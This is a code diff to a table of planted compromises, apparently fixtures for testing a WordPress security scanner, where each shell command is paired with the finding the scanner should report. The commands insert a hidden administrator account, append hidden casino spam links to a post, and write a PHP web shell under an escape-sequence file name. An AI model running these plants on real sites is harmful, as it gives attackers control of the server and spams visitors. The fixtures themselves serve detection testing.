@@ -53,11 +53,11 @@ PLANTS = {
     "administrator": (
         "echo \"INSERT INTO portal.wp_users (user_login,user_pass,user_email) VALUES ('evil','x','e@x.test');"
         " INSERT INTO portal.wp_usermeta (user_id,meta_key,meta_value) VALUES (LAST_INSERT_ID(),'wp_capabilities',"
-        "'a:1:{s:13:\\\"administrator\\\";b:1;}');\" | mariadb -uroot",
+        '\'a:1:{s:13:\\"administrator\\";b:1;}\');" | mariadb -uroot',
         ("administrator evil", "database.administrator", "critical"),
     ),
     "hidden links": (
-        "echo \"UPDATE portal.wp_posts SET post_content=CONCAT(post_content,'<div style=\\\"display:none\\\">"
+        'echo "UPDATE portal.wp_posts SET post_content=CONCAT(post_content,\'<div style=\\"display:none\\">'
         "<a href=https://x.test>nhà cái casino</a></div>') WHERE ID=5;\""
         " | mariadb --default-character-set=utf8mb4 -uroot",
         ("content post 5", "content.hidden-link", "high"),
@@ -66,7 +66,7 @@ PLANTS = {
         "printf '<?php system($_GET[0]);' > \"$UP/$(printf 'a\\033]0;x\\007\\n.php')\"",
         ("/var/www/portal/wp-content/uploads/a\\x1b]0;x\\x07\\x0a.php", "upload.code", "critical"),
     ),
-}  # fmt: skip # a table
+}
 HEAD = "set -e; W=/var/www/portal; UP=$W/wp-content/uploads; mkdir -p $UP/2026; "
 
 
